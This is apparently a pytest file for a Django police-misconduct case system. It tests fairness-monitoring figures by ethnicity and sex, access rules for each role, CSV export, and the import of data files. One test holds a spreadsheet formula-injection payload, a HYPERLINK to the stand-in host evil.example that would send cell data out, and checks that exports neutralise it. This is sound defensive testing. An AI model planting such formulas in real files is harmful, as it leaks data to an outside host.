"""The monitoring figures on the force's own records, the page, its CSV, and the upload page."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cases.fairness.datasets import Scope
from cases.fairness.models import DataSource, ImportRun, ImportStatus
from cases.fairness.selectors import monitoring_figures
from cases.models import AllegationStatus, Ethnicity, Outcome, ProceedingsFinding, Route, Severity, Sex
from cases.models import Finding as CaseFinding
from cases.roles import Role
from tests import clock
from tests.conftest import sign_in
from tests.factories import AllegationFactory, CaseFactory, CommandFactory, OfficerFactory, UserFactory


@pytest.fixture
def force(db):
    """20 white officers, 10 black, 2 asian; 4 allegations about white officers, 4 about black, none
    about asian. One black officer's case reached case to answer, upheld, dismissal."""
    command = CommandFactory(code="NW", name="North West")
    white = [OfficerFactory(command=command, ethnicity=Ethnicity.WHITE, sex=Sex.MALE) for _ in range(20)]
    black = [OfficerFactory(command=command, ethnicity=Ethnicity.BLACK, sex=Sex.FEMALE) for _ in range(10)]
    [OfficerFactory(command=command, ethnicity=Ethnicity.ASIAN, sex=Sex.MALE) for _ in range(2)]
    OfficerFactory(command=command, ethnicity=Ethnicity.WHITE, joined_on=clock.days_ago(10))  # joined after the period
    for officer in white[:4]:
        AllegationFactory(subject=officer, received_on=clock.days_ago(100), incident_on=clock.days_ago(110))
    for officer in black[:3]:
        AllegationFactory(subject=officer, received_on=clock.days_ago(100), incident_on=clock.days_ago(110))
    case = CaseFactory(
        subject=black[0],
        severity=Severity.GROSS_MISCONDUCT,
        finding=CaseFinding.CASE_TO_ANSWER,
        route=Route.MISCONDUCT_HEARING,
        proceedings_finding=ProceedingsFinding.GROSS_MISCONDUCT,
        outcome=Outcome.DISMISSAL,
        outcome_on=clock.days_ago(40),
    )
    AllegationFactory(
        subject=black[0],
        case=case,
        status=AllegationStatus.UPHELD,
        received_on=clock.days_ago(100),
        incident_on=clock.days_ago(110),
    )
    return command


PERIOD = {"date_from": clock.days_ago(365), "date_to": clock.days_ago(30)}


def test_force_figures_by_ethnicity_are_the_hand_counts(force, django_assert_max_num_queries):
    with django_assert_max_num_queries(2):  # the people by group, and one pass over the allegations
        figures = monitoring_figures(scope=Scope(**PERIOD, small_below=5))
    groups = {g.key: g for g in figures.by["ethnicity"]}
    white, black, asian = groups["white"], groups["black"], groups["asian"]
    assert (white.people, white.people_with_allegation, white.allegations) == (20, 4, 4)
    assert (black.people, black.people_with_allegation, black.allegations) == (10, 3, 4)
    assert figures.reference["ethnicity"] is white and white.is_reference
    # 3 of 10 against 4 of 20: risk ratio 1.5; SE = sqrt(1/3 - 1/10 + 1/4 - 1/20) = 0.658
    assert black.ratios["involved"].value == pytest.approx(1.5)
    assert black.ratios["involved"].low == pytest.approx(1.5 * 2.718281828 ** (-1.959964 * 0.6583), rel=1e-3)
    assert black.rates["allegations"].value == pytest.approx(40.0)  # 4 allegations per 10 people, per 100
    assert (black.stages["case"], black.stages["gross_misconduct"], black.stages["case_to_answer"]) == (1, 1, 1)
    assert (black.stages["upheld"], black.stages["dismissal"]) == (1, 1)
    assert black.median_days == 60  # received 100 days ago, outcome 40 days ago
    assert white.stages["upheld"] == 0 and white.median_days is None
    assert black.ratios["upheld"].value is None  # the reference group has none upheld: no comparison
    assert asian.small and asian.allegations == 0 and asian.rates["upheld"].no_data
    assert asian.ratios["involved"].value == 0 and asian.ratios["involved"].low is None
    sexes = {g.key: g for g in figures.by["sex"]}
    assert (sexes["female"].people, sexes["female"].allegations) == (10, 4)
    funnel = [(label, count) for label, count, _ in black.funnel]
    assert funnel == [("Allegations", 4), ("Became a case", 1), ("Case to answer", 1), ("Upheld", 1), ("Dismissal", 1)]
    assert any("Black officers and staff" in s for s in figures.summary)


def test_query_count_does_not_grow_with_the_data(force, django_assert_max_num_queries):
    for _ in range(30):
        AllegationFactory(received_on=clock.days_ago(50), incident_on=clock.days_ago(60))
    with django_assert_max_num_queries(6):
        monitoring_figures(scope=Scope(**PERIOD, command="NW", category="dishonesty", origin="public_complaint"))


def test_an_empty_scope_shows_no_data_without_error(db):
    figures = monitoring_figures(scope=Scope(**PERIOD))
    assert figures.by["ethnicity"] == [] and figures.total.rates["upheld"].no_data
    assert figures.summary == ["There are no people in this scope to compare."]


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.SUPERVISOR, Role.COMMISSIONER])
def test_monitoring_page_and_export_for_supervisors_and_the_commissioner(client, force, role):
    sign_in(client, UserFactory(roles=[role]))
    response = client.get(reverse("fairness:monitoring"), {"date_from": PERIOD["date_from"], "reference": "white"})
    assert response.status_code == 200
    assert b"Fairness monitoring" in response.content and b'data-group="black"' in response.content
    export = client.get(reverse("fairness:monitoring_export"))
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    assert b"ethnicity,Black,people with an allegation" in export.content


@pytest.mark.django_db
def test_an_investigator_gets_404_and_an_unknown_source_is_404(client, force):
    sign_in(client, UserFactory(roles=[Role.INVESTIGATOR]))
    assert client.get(reverse("fairness:monitoring")).status_code == 404
    sign_in(client, UserFactory(roles=[Role.COMMISSIONER]))
    assert client.get(reverse("fairness:import_list")).status_code == 404
    DataSource.objects.create(slug="gone", name="Gone")
    assert client.get(reverse("fairness:monitoring"), {"source": "gone"}).status_code == 200
    assert (
        client.get(reverse("fairness:monitoring"), {"source": "nope"}).status_code == 200
    )  # invalid choice: the force


@pytest.mark.django_db
def test_a_supervisor_uploads_a_file_and_sees_the_run_and_its_issues(client, settings, tmp_path, force):
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    sign_in(client, UserFactory(roles=[Role.SUPERVISOR]))
    assert client.get(reverse("fairness:import_list")).status_code == 200
    data = (
        "allegation_no;officer_ref;rank;unit;race;sex;date_received;date_concluded;type;officer_age;result;formal;cta;sanction\n"
        "A1;P1;PC;North;W;1;03/01/2024;;UOF;30;S;Y;Y;\n"
        "A2;P2;PC;North;B;2;99/01/2024;;UOF;30;S;Y;Y;\n"
    )
    with django_capture_on_commit(client) as callbacks:
        response = client.post(
            reverse("fairness:import_list"),
            {
                "source_name": "Uploaded",
                "mapping": "example-coded",
                "data_file": SimpleUploadedFile("export.csv", data.encode()),
            },
        )
    assert response.status_code == 302, response.content
    run = ImportRun.objects.get()
    assert run.status == ImportStatus.DONE and (run.rows_imported, run.rows_rejected) == (1, 1), callbacks
    assert not list(tmp_path.glob("imports/*"))  # the upload is deleted once imported
    page = client.get(response["Location"])
    assert b"Lines rejected" in page.content
    issues = client.get(reverse("fairness:import_issues", kwargs={"run_id": run.public_id}))
    assert b"3,rejected,received" in issues.content
    monitoring = client.get(reverse("fairness:monitoring"), {"source": run.source.slug})
    assert monitoring.status_code == 200 and b"Uploaded" in monitoring.content


class django_capture_on_commit:
    """Run the on-commit callbacks of a request made inside a test transaction."""

    def __init__(self, client):
        from django.test import TestCase

        self._ctx = TestCase.captureOnCommitCallbacks(execute=True)

    def __enter__(self):
        return self._ctx.__enter__()

    def __exit__(self, *exc):
        return self._ctx.__exit__(*exc)


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
HOSTILE_MAPPING = """
format = "dps-import-mapping"
version = 1
name = "Hostile"
[subject]
id = "who"
ethnicity = "group"
[allegation]
category = "kind"
received = { column = "when", format = "%Y-%m-%d" }
"""


@pytest.mark.django_db
def test_imported_values_that_a_spreadsheet_would_run_are_sent_as_text(client, tmp_path):
    from cases.fairness import services

    path = tmp_path / "hostile.csv"
    quoted = HOSTILE.replace('"', '""')
    path.write_text(f'who,group,kind,when\n1,"{quoted}",x,2024-01-01\n2,a,"{quoted}",@SUM(1)\n')
    run = services.import_dataset(
        mapping_text=HOSTILE_MAPPING, mapping_origin="m", data_path=path, source_name="Hostile"
    )
    assert run.rows_imported == 1 and run.rows_rejected == 1
    assert "'@SUM(1)" in run.issues_csv and ",@SUM" not in run.issues_csv
    sign_in(client, UserFactory(roles=[Role.SUPERVISOR]))
    export = client.get(reverse("fairness:monitoring_export"), {"source": run.source.slug})
    assert export.status_code == 200
    body = export.content.decode()
    assert "'" + HOSTILE.replace('"', '""') in body
    assert ",=" not in body and "\n=" not in body


@pytest.mark.django_db
def test_the_figures_are_in_the_api_for_the_commissioner_and_oversight_bodies_not_caseworkers(client, force):
    sign_in(client, UserFactory(roles=[Role.INVESTIGATOR]))
    assert client.get(reverse("v1:fairness-figures")).status_code == 403
    sign_in(client, UserFactory(roles=[Role.OVERSIGHT]))
    assert client.get(reverse("v1:fairness-figures")).status_code == 200
    sign_in(client, UserFactory(roles=[Role.COMMISSIONER]))
    period = {key: day.isoformat() for key, day in PERIOD.items()}
    body = client.get(reverse("v1:fairness-figures"), period).json()
    black = next(g for g in body["by"]["ethnicity"] if g["key"] == "black")
    assert (black["people"], black["allegations"], black["stages"]["upheld"]) == (10, 4, 1)
    assert body["reference"]["ethnicity"] == "white"
    assert black["ratios"]["involved"]["value"] == pytest.approx(1.5)


def test_the_one_pass_figures_are_those_of_the_separate_queries(force):
    """On PostgreSQL the figures come from one scan with GROUPING SETS; the plain queries (the other
    databases' path) must give the same rows, medians and categories."""
    from cases.fairness.datasets import dataset_for
    from cases.fairness.selectors import DIMENSIONS, _one_pass, _separate_passes

    asian_woman = OfficerFactory(command=force, ethnicity=Ethnicity.ASIAN, sex=Sex.FEMALE)
    AllegationFactory(subject=asian_woman, category="violence", received_on=clock.days_ago(50))
    ds = dataset_for(Scope(**PERIOD))
    group_fields = [ds.allegation_groups[d] for d in DIMENSIONS]
    one_rows, one_medians, one_categories = _one_pass(ds, group_fields)
    rows, medians, categories = _separate_passes(ds, group_fields)

    assert sorted(one_rows, key=str) == sorted(rows, key=str) and len(rows) >= 3
    assert one_medians == medians and medians["ethnicity"]
    assert one_categories == categories and len(categories) >= 2
